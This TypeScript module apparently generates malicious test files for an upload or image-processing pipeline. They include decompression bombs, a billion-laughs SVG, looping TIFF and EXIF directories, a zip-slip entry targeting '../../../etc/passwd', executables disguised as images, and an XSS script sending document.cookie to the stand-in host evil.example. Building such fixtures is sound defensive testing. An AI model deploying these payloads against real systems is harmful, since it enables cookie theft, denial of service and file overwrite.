import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { phonePicture, pictureBytes, pngBomb } from './pictures.js';

export interface HostileFile {
  what: string;
  bytes: Buffer;
  fileName: string;
  type: string;
}

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const MEGABYTE = 1_048_576;
/** What a few bytes grow to. */
const BOMB_MEGABYTES = 100;
const TYPES = ['png', 'jpeg', 'webp', 'gif', 'avif'] as const;

/** Files that do harm where somebody believes them: as pages, as archives, or as work for a decoder. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const picture = (what: string, bytes: Buffer, type = 'png'): HostileFile => {
    return { what, bytes, fileName: `a.${type}`, type: `image/${type}` };
  };
  const small = Object.fromEntries(
    await Promise.all(TYPES.map(async (type) => [type, await pictureBytes(200, 150, type)] as const)),
  ) as Record<(typeof TYPES)[number], Buffer>;
  return [
    ...pages(),
    ...archives(),
    ...(await cameraBlocks(small.jpeg)),
    ...TYPES.flatMap((type) =>
      [0.1, 0.5, 0.95].map((part) => {
        const bytes = small[type].subarray(0, Math.floor(small[type].length * part));
        return picture(`the first ${part * 100} % of a picture (${type})`, bytes, type);
      }),
    ),
    ...TYPES.map((type) => picture(`a picture with noise in its middle (${type})`, noisy(small[type]), type)),
    picture(
      'a picture and an archive behind it',
      Buffer.concat([small.jpeg, zipOf('run.class', Buffer.from('x'))]),
      'jpeg',
    ),
    picture('a picture with a page in its comment', withJpegSegment(small.jpeg, 0xfe, Buffer.from(SCRIPT)), 'jpeg'),
    picture('a picture and a page behind it', Buffer.concat([small.gif, Buffer.from(SCRIPT)]), 'gif'),
    picture('a picture and a PDF behind it', Buffer.concat([small.png, Buffer.from('%PDF-1.7\n%%EOF')])),
    picture('a picture whose text grows to 100 MB', pngWithChunk(small.png, 'zTXt', textBomb('Comment\0\0'))),
    picture('a picture whose colours grow to 100 MB', pngWithChunk(small.png, 'iCCP', textBomb('icc\0\0'))),
    picture('a picture of one pixel with 100 MB of pixels', pngWithData(1, 1, BOMB_MEGABYTES)),
    picture('a picture that says it has a billion pixels', pngBomb(32_000, 32_000)),
    picture('a film of frames that are larger than it', gifHead(65_535, 65_535), 'gif'),
    picture('a WebP whose canvas is 16,383 pixels wide and high', webpCanvas(), 'webp'),
    picture('a TIFF whose directories name each other in a circle', tiffLoop(), 'tiff'),
    picture('a TIFF of 65,535 entries', tiffOfEntries(65_535), 'tiff'),
    picture('a program for Windows', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(600, 1)]), 'jpeg'),
    picture('a program for Linux', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(600, 1)])),
  ];
}

function pages(): HostileFile[] {
  const page = (what: string, bytes: Buffer, fileName: string, type: string): HostileFile => {
    return { what, bytes, fileName, type };
  };
  const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, i) => {
    const [name, before] = [String.fromCharCode(98 + i), String.fromCharCode(97 + i)];
    return `<!ENTITY ${name} "${`&${before};`.repeat(10)}">`;
  }).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&u;</text></svg>`;
  return [
    page('a page', Buffer.from(`<!doctype html>${SCRIPT}`), 'a.html', 'text/html'),
    page('a page behind a mark of its encoding', Buffer.from(`\ufeff<html>${SCRIPT}`), 'a.txt', 'text/plain'),
    page('a page in UTF-16', Buffer.from(`\ufeff<html>${SCRIPT}`, 'utf16le'), 'a.txt', 'text/plain'),
    page('a page behind a kilobyte of spaces', Buffer.from(`${' '.repeat(1_024)}<html>${SCRIPT}`), 'a', ''),
    page('a drawing with a script', Buffer.from(SVG), 'a.bin', 'application/octet-stream'),
    page('a drawing with a script, called one', Buffer.from(SVG), 'a.svg', 'image/svg+xml'),
    page('a drawing in UTF-16', Buffer.from(`\ufeff${SVG}`, 'utf16le'), 'a.bin', ''),
    page('a drawing that is compressed', gzipSync(SVG), 'a.bin', ''),
    page('a drawing whose entities grow without end', Buffer.from(laughs), 'a.bin', ''),
    page(
      'an XML with a style that runs',
      Buffer.from(`<?xml version="1.0"?><?xml-stylesheet href="a.xsl"?><a/>`),
      'a',
      '',
    ),
    page('a script', Buffer.from('self.addEventListener("fetch", () => {})'), 'sw.js', 'text/javascript'),
    page('a module of WebAssembly', Buffer.from('0061736d01000000', 'hex'), 'a.wasm', 'application/wasm'),
    page(
      'a PDF with a script',
      Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'),
      'a.pdf',
      '',
    ),
  ];
}

function archives(): HostileFile[] {
  const zeros = Buffer.alloc(BOMB_MEGABYTES * MEGABYTE);
  const archive = (what: string, bytes: Buffer, fileName: string): HostileFile => {
    return { what, bytes, fileName, type: '' };
  };
  const types = Buffer.concat([
    Buffer.from('<?xml version="1.0"?><Types>'),
    Buffer.alloc(BOMB_MEGABYTES * MEGABYTE, 0x20),
  ]);
  return [
    archive('a document whose list of types grows to 100 MB', zipOf('[Content_Types].xml', types), 'a.docx'),
    archive('a document whose type grows to 100 MB', zipOf('mimetype', zeros), 'a.odt'),
    archive('an archive of a name that leads outside', zipOf('../../../etc/passwd', Buffer.from('x')), 'a.zip'),
    archive('an archive that says it holds 4 GB', zipOf('a', Buffer.from('x'), 0xffff_fffe), 'a.zip'),
    archive(
      'an archive of 20,000 entries',
      Buffer.concat(Array(20_000).fill(zipEntry('a', Buffer.from('x')))),
      'a.zip',
    ),
    archive('100 MB of zeros, compressed twice', gzipSync(gzipSync(zeros)), 'a.gz'),
  ];
}

/** For whoever reads what cameras write. */
async function cameraBlocks(jpeg: Buffer): Promise<HostileFile[]> {
  const block = (what: string, tiff: Buffer): HostileFile => {
    const exif = Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff]);
    return { what, bytes: withJpegSegment(jpeg, 0xe1, exif), fileName: 'a.jpg', type: 'image/jpeg' };
  };
  const phone = await phonePicture(120, 80);
  return [
    block('a camera block whose directories name each other in a circle', tiffLoop()),
    block('a camera block of entries that are not there', tiffOfEntries(4_000).subarray(0, 60)),
    block('a camera block whose place lies outside of the file', tiffOfPlace(0x7fff_ffff)),
    block('a camera block whose place is itself', tiffOfPlace(8)),
    { what: 'half of a camera block', bytes: phone.subarray(0, 90), fileName: 'a.jpg', type: 'image/jpeg' },
    {
      what: 'a hundred thousand beginnings of camera blocks',
      bytes: Buffer.concat([jpeg, Buffer.from('II*\0\u0008\0\0\0exif:GPS'.repeat(50_000), 'latin1')]),
      fileName: 'a.jpg',
      type: 'image/jpeg',
    },
  ];
}

function noisy(bytes: Buffer): Buffer {
  const middle = Math.floor(bytes.length / 2);
  return Buffer.concat([bytes.subarray(0, middle), Buffer.alloc(40, 0xe7), bytes.subarray(middle + 40)]);
}

function withJpegSegment(jpeg: Buffer, marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)]);
}

const textBomb = (head: string): Buffer =>
  Buffer.concat([Buffer.from(head, 'latin1'), deflateSync(Buffer.alloc(BOMB_MEGABYTES * MEGABYTE), { level: 9 })]);

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** Behind the signature and the head. */
function pngWithChunk(png: Buffer, type: string, data: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), pngChunk(type, data), png.subarray(33)]);
}

function pngWithData(width: number, height: number, megabytes: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const data = deflateSync(Buffer.alloc(megabytes * MEGABYTE), { level: 9 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, pngChunk('IHDR', head), pngChunk('IDAT', data), pngChunk('IEND', Buffer.alloc(0))]);
}

function gifHead(width: number, height: number): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt16LE(width, 0);
  size.writeUInt16LE(height, 2);
  const frame = Buffer.concat([Buffer.from([0x2c, 0, 0, 0, 0]), size, Buffer.from([0, 2, 2, 0x44, 1, 0, 0x3b])]);
  return Buffer.concat([Buffer.from('GIF89a'), size, Buffer.from([0x80, 0, 0, 0, 0, 0, 255, 255, 255]), frame]);
}

function webpCanvas(): Buffer {
  const canvas = Buffer.from('VP8X\n\0\0\0\u0002\0\0\0\u00fe?\0\u00fe?\0', 'latin1');
  const size = Buffer.alloc(4);
  size.writeUInt32LE(canvas.length + 4);
  return Buffer.concat([Buffer.from('RIFF'), size, Buffer.from('WEBP'), canvas]);
}

/** One entry, and then the same directory again. */
function tiffLoop(): Buffer {
  const tiff = Buffer.alloc(26);
  tiff.write('II*\0\u0008\0\0\0\u0001\0', 'latin1');
  tiff.writeUInt16LE(0x0100, 10);
  tiff.writeUInt16LE(3, 12);
  tiff.writeUInt32LE(1, 14);
  tiff.writeUInt32LE(1, 18);
  tiff.writeUInt32LE(8, 22);
  return tiff;
}

function tiffOfEntries(count: number): Buffer {
  const tiff = Buffer.alloc(10 + count * 12 + 4, 1);
  tiff.write('II*\0\u0008\0\0\0', 'latin1');
  tiff.writeUInt16LE(count, 8);
  return tiff;
}

function tiffOfPlace(at: number): Buffer {
  const tiff = tiffLoop();
  tiff.writeUInt16LE(0x8825, 10);
  tiff.writeUInt16LE(4, 12);
  tiff.writeUInt32LE(at, 18);
  return tiff;
}

function zipOf(name: string, content: Buffer, saidBytes = content.length): Buffer {
  const entry = zipEntry(name, content, saidBytes);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  return Buffer.concat([entry, end]);
}

function zipEntry(name: string, content: Buffer, saidBytes = content.length): Buffer {
  const packed = deflateRawSync(content, { level: 9 });
  const head = Buffer.alloc(30);
  head.write('PK\u0003\u0004\u0014', 'latin1');
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(crc32(content), 14);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(saidBytes, 22);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, Buffer.from(name), packed]);
}
